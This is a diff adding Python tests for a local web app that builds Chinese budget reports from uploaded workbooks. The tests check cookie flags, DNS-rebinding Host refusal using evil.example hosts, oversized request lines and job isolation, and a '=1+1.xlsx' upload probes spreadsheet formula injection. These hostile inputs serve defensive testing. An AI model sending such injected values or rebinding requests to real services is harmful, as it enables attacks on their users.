+    cookie = res.headers.get("Set-Cookie", "")
+    assert "SameSite=Strict" in cookie and "HttpOnly" in cookie
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example"])
+def test_unknown_host_is_refused(app, host):
+    """A Host the server does not serve (DNS rebinding): a Chinese 400."""
+    from generator import web
+
+    res = app.test_client().get("/", headers={"Host": host})
+    assert res.status_code == 400 and _message(res) == web.UNKNOWN_HOST
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000"])
+def test_local_hosts_are_served(app, host):
+    assert app.test_client().get("/", headers={"Host": host}).status_code == 200
+
+
+def test_error_pages_are_chinese(app, monkeypatch):
+    """404, 413 and 500 pages speak Chinese."""
+    from generator import web
+
+    client = app.test_client()
+    res = client.get("/no-such-page")
+    assert res.status_code == 404 and _message(res).startswith("找不到该页面或文件")
+    app.config["MAX_CONTENT_LENGTH"] = 1000
+    res = _post(client, [("大.xlsx", b"x" * 5000)], _token(client))
+    assert res.status_code == 413 and _message(res).startswith("上传的内容超过了限制")
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("bug")
+
+    monkeypatch.setattr(web, "limits_text", broken)
+    monkeypatch.setitem(app.view_functions, "index", broken)
+    res = client.get("/")
+    assert res.status_code == 500 and _message(res) == web.INTERNAL_ERROR
+
+
+def test_server_answers_a_too_long_address_in_chinese(app):
+    """A request line longer than the HTTP server accepts: 414 with a Chinese page."""
+    import threading
+
+    from generator import web
+
+    server = web.make_web_server("127.0.0.1", 0, app)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        with socket.create_connection(("127.0.0.1", server.server_port), timeout=10) as conn:
+            conn.sendall(b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+            reply = b""
+            while chunk := conn.recv(65536):
+                reply += chunk
+    finally:
+        server.shutdown()
+        server.server_close()
+    head, _, body = reply.partition(b"\r\n\r\n")
+    assert head.startswith(b"HTTP/1.0 414") or head.startswith(b"HTTP/1.1 414")
+    assert b"charset=utf-8" in head
+    assert "网址过长，无法处理" in body.decode("utf-8")
+
+
+def test_each_web_job_keeps_its_own_report(app, good, minimal_data, make_workbook):
+    """Uploading a corrected file of the same name: the first upload's link still serves the first report."""
+    from docx import Document
+
+    client = app.test_client()
+    first = _post(client, [("单位.xlsx", good.read_bytes())], _token(client)).headers["Location"]
+    minimal_data["unit"]["name"] = "改名后的单位"
+    second_file = make_workbook(minimal_data, "第二.xlsx")
+    second = _post(client, [("单位.xlsx", second_file.read_bytes())], _token(client)).headers["Location"]
+    assert first != second
+
+    def report_title(job_url):
+        page = client.get(job_url).get_data(as_text=True)
+        href = re.search(r'href="([^"]+/f/[^"]+)"[^>]*>[^<]*决算说明', page) or re.search(r'href="([^"]+/f/f1)"', page)
+        data = client.get(href.group(1)).data
+        return Document(io.BytesIO(data)).paragraphs[0].text + "".join(p.text for p in Document(io.BytesIO(data)).paragraphs[:5])
+
+    assert "测试单位" in report_title(first) and "改名后的单位" not in report_title(first)
+    assert "改名后的单位" in report_title(second)
+
+
+def test_web_batch_names_that_fold_alike_and_hostile_names(app, good):
+    """"单位.xlsx" and "单位 .xlsx" get two folders in 全部报告.zip; a name starting with "=" stays text in 汇总.xlsx."""
+    client = app.test_client()
+    data = good.read_bytes()
+    url = _post(client, [("单位.xlsx", data), ("单位 .xlsx", data), ("=1+1.xlsx", data)], _token(client)).headers["Location"]
+    (sess,) = app.extensions["juesuan"].sessions.values()
+    job = next(iter(sess.jobs.values()))
+    end = time.monotonic() + 120
+    while job.running and time.monotonic() < end:
+        time.sleep(0.2)
+    assert job.state == "完成", job.message
+    archive = zipfile.ZipFile(job.downloads[job.archive].path)
+    names = archive.namelist()
+    assert len(names) == len(set(names))
+    folders = {n.split("/")[0] for n in names if "/" in n}
+    assert folders == {"单位", "单位（2）", "=1+1"}, folders
+    summary = job.downloads[job.summary].path
+    assert b"<f>" not in b"".join(_sheet_xmls(summary).values())
+    rows = [r[0] for r in load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True)]
+    assert "=1+1.xlsx" in rows
+    assert url
+
+
+def test_link_from_another_site_keeps_the_session(app, good):
+    """A cross-site link to the page (no Strict cookie sent) gets a self-reloading page and no new cookie."""
+    client = app.test_client()
+    assert _post(client, [("单位.xlsx", good.read_bytes())], _token(client)).status_code == 303
+    res = client.get("/", headers={"Sec-Fetch-Site": "cross-site"})
+    assert res.status_code == 200 and "Set-Cookie" not in res.headers
+    assert '<meta http-equiv="refresh" content="0">' in res.get_data(as_text=True)
+    assert "单位.xlsx" in client.get("/", headers={"Sec-Fetch-Site": "same-origin"}).get_data(as_text=True)
+
+
+@pytest.mark.parametrize("name", ["单位.XLSX", "单位.xlsm"])
+def test_web_accepts_workbooks_whatever_the_case_of_the_suffix(app, good, name):
+    """An upload named .XLSX or .xlsm is processed as a workbook (not ignored)."""
+    client = app.test_client()
+    res = _post(client, [(name, good.read_bytes())], _token(client))
+    assert res.status_code == 303
+    (sess,) = app.extensions["juesuan"].sessions.values()
+    (job,) = sess.jobs.values()
+    assert [u.display for u in job.units] == [name] and job.units[0].status == "成功"
